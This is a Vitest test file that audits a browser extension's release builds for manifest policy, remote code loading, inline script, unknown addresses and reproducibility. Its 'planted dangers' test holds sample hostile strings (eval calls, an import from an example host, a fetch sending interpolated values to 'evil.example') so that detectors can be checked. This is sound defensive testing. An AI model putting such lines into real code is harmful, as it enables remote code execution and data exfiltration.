import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { readdirSync, readFileSync, rmSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { addressesIn, KNOWN_ADDRESSES } from "../support/knownAddresses.ts";
import { dangersIn } from "../support/scriptDangers.ts";
import { sized } from "../support/whole.ts";

/** Permissions, policy and keys are held by tests/e2e/manifest.test.ts. */
const KEYS = [
  ...["manifest_version", "name", "description", "version", "icons", "default_locale", "action", "permissions"],
  ...["host_permissions", "optional_host_permissions", "incognito", "omnibox", "commands", "content_security_policy"],
  ...["background", "options_ui"],
];

const filesIn = (build: string): string[] =>
  readdirSync(build, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name).slice(build.length + 1))
    .sort();

describe.each([
  { build: ".output/chrome-mv3", keys: [...KEYS, "minimum_chrome_version", "side_panel"] },
  { build: ".output/firefox-mv3", keys: [...KEYS, "browser_specific_settings", "sidebar_action"] },
])("the release in $build", ({ build, keys }) => {
  const read = (path: string): string => readFileSync(join(build, path), "utf8");
  const files = filesIn(build);
  const ending = (pattern: RegExp) => files.filter((path) => pattern.test(path));

  test("declares what it is known to declare and nothing else, and no policy is softened", () => {
    // The build wrote it, as an object.
    const manifest = JSON.parse(read("manifest.json")) as Record<string, unknown>;
    expect(Object.keys(manifest).sort()).toEqual([...keys].sort());
    expect(manifest["host_permissions"]).toEqual([]);
    expect(JSON.stringify(manifest)).not.toMatch(/unsafe-|wasm|http:\/\/(?!\*\/)|localhost|127\.0\.0\.1/);
  });

  test("has no script that makes code of text or fetches code", () => {
    const scripts = ending(/\.js$/);
    expect(scripts.length).toBeGreaterThan(50);
    expect(scripts.flatMap((path) => dangersIn(read(path)).map((danger) => `${path} ${danger}`))).toEqual([]);
  });

  test("has pages with packaged scripts and styles only, and nothing written into them", () => {
    const pages = ending(/\.html$/);
    expect(pages).toHaveLength(7);
    for (const page of pages) {
      const html = read(page);
      const asked = [...html.matchAll(/\s(?:src|href)\s*=\s*["']?([^"'\s>]*)/g)].map(([, path = ""]) => path);
      expect(asked.filter((path) => !/^\/(?!\/)/.test(path) || !files.includes(path.slice(1)))).toEqual([]);
      expect(
        html.match(/<script(?![^>]*\ssrc=)[^>]*>|<style|\son\w+\s*=|\sstyle\s*=|<base|http-equiv="refresh"/g),
      ).toBeNull();
    }
  });

  test("names the addresses that it is known to name, each with a reason", () => {
    // The edition is news, and goes the way of all news.
    const ours = ending(/\.(js|css|html|json|svg)$/).filter((path) => !path.startsWith("edition/"));
    const named = new Set(ours.flatMap((path) => addressesIn(read(path))));
    expect([...named].sort()).toEqual(Object.keys(KNOWN_ADDRESSES).sort());
  });

  test("packs files of known kinds, and no map or source", () => {
    const kinds = new Set(files.map((path) => path.slice(path.lastIndexOf("."))));
    expect([...kinds].filter((kind) => !/^\.(js|css|html|json|svg|png|webp|woff2)$/.test(kind))).toEqual([]);
    expect(ending(/\.js$/).filter((path) => read(path).includes("sourceMappingURL"))).toEqual([]);
  });
});

test("planted dangers are found", () => {
  const planted = [
    ...["eval('1')", "globalThis.eval('1')", "(0,eval)('1')", "new Function('1')", "Function('return this')()"],
    ...["import('https://a.example/x.js')", "import(name)", "import '//a.example/x.js'", "setTimeout('1', 2)"],
    ...["export * from 'https://a.example/x.js'", "importScripts('x.js')", "window.setInterval(`1`, 2)"],
  ];
  expect(planted.filter((script) => dangersIn(script).length === 0)).toEqual([]);
  expect(dangersIn("import('./a.js'); a instanceof Function; setTimeout(() => {}, 1); ({ eval: 1 })")).toEqual([]);
  expect(addressesIn("fetch(`https://evil.example/${x}?a=${y}`) + 'wss://b.example/'")).toEqual([
    "evil.example/${}?a=${}",
    "b.example",
  ]);
});

/** In full size: a store that builds it anew must get what people have. */
describe.skipIf(!sized({ short: false, whole: true }))("built twice", () => {
  const folders = [".output/twin-1", ".output/twin-2"] as const;
  beforeAll(() => {
    const script = ["node_modules/jiti/lib/jiti-cli.mjs", "tests/support/buildLive.ts"];
    for (const folder of folders) {
      for (const browser of ["chrome", "firefox"]) {
        execFileSync(process.execPath, [...script, browser, "https://home.feeds.test/feed.json", folder], {
          stdio: ["ignore", "ignore", "inherit"],
        });
      }
    }
  }, 600_000);
  afterAll(() => folders.forEach((folder) => rmSync(folder, { recursive: true, force: true })));

  test.each(["chrome-mv3", "firefox-mv3"])("%s is the same to the byte", (name) => {
    const [one, other] = folders.map((folder) => sumsIn(join(folder, name)));
    expect(one?.length).toBeGreaterThan(80);
    expect(other).toEqual(one);
  });
});

const sumsIn = (build: string): string[] =>
  filesIn(build).map(
    (path) =>
      `${path} ${createHash("sha256")
        .update(readFileSync(join(build, path)))
        .digest("hex")}`,
  );
